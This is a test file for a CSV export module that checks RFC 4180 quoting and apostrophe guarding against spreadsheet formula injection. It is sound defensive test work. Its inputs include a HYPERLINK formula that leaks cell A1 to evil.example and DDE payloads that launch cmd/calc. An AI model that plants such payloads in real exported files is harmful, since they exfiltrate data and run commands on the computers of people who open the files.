import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvUnguard, guardFormula } from './csv.js';

describe('csvCell', () => {
  it('quotes (RFC 4180) only a cell with a comma, quote, CR or LF, doubling quotes inside; or every cell when asked', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('plain', { quote: 'always' })).toBe('"plain"');
    expect(csvCell(12, { quote: 'always' })).toBe('"12"');
    expect(csvCell(null, { quote: 'always' })).toBe('""');
  });

  it('puts a leading apostrophe before text starting with = + - @ tab or CR', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`);
    expect(csvCell('+cmd|/C calc!A0')).toBe("'+cmd|/C calc!A0");
    expect(csvCell('-2+3+cmd|/C calc!A0')).toBe("'-2+3+cmd|/C calc!A0");
    expect(csvCell('@SUM(1+1)*cmd|/C calc!A0')).toBe("'@SUM(1+1)*cmd|/C calc!A0");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('=1+1', { quote: 'always' })).toBe(`"'=1+1"`);
    // Only at the start; text with an apostrophe already before = gets one more (see csvUnguard).
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell("'=1")).toBe("''=1");
    expect(csvCell("it's")).toBe("it's");
  });

  it('leaves numbers alone: number and bigint values, and text that is a plain negative decimal', () => {
    expect(csvCell(-100)).toBe('-100');
    expect(csvCell(-1234.5)).toBe('-1234.5');
    expect(csvCell(-50000000000n)).toBe('-50000000000');
    expect(csvCell(0)).toBe('0');
    expect(csvCell('-1234.50')).toBe('-1234.50');
    expect(csvCell('-7')).toBe('-7');
    expect(csvCell('1234.50')).toBe('1234.50');
    // Not a plain number: guarded.
    expect(csvCell('-1e3')).toBe("'-1e3");
    expect(csvCell('-')).toBe("'-");
    expect(csvCell('+5')).toBe("'+5");
  });

  it('writes a line with CRLF', () => {
    expect(csvLine(['a', '=b', -1, null, 'c,d'])).toBe(`a,'=b,-1,,"c,d"\r\n`);
    expect(csvLine(['a', '=b'], { quote: 'always' })).toBe(`"a","'=b"\r\n`);
  });
});

describe('csvUnguard', () => {
  it('takes off one apostrophe before = + - @ tab or CR, and nothing else', () => {
    expect(csvUnguard("'=SUM(1)")).toBe('=SUM(1)');
    expect(csvUnguard("'+cmd|/C calc!A0")).toBe('+cmd|/C calc!A0');
    expect(csvUnguard("''=1")).toBe("'=1");
    expect(csvUnguard("'hello")).toBe("'hello");
    expect(csvUnguard("it's")).toBe("it's");
    expect(csvUnguard('-1234.50')).toBe('-1234.50');
    expect(csvUnguard('=raw')).toBe('=raw');
  });

  it('gives back any text guardFormula wrote', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', '1', '.', ' ') });
    fc.assert(
      fc.property(text, (s) => {
        expect(csvUnguard(guardFormula(s))).toBe(s);
        expect(guardFormula(s)).not.toMatch(/^[=+@\t\r]/);
        if (/^-/.test(guardFormula(s))) expect(s).toMatch(/^-\d+(\.\d+)?$/);
      }),
      { numRuns: 500 },
    );
  });
});
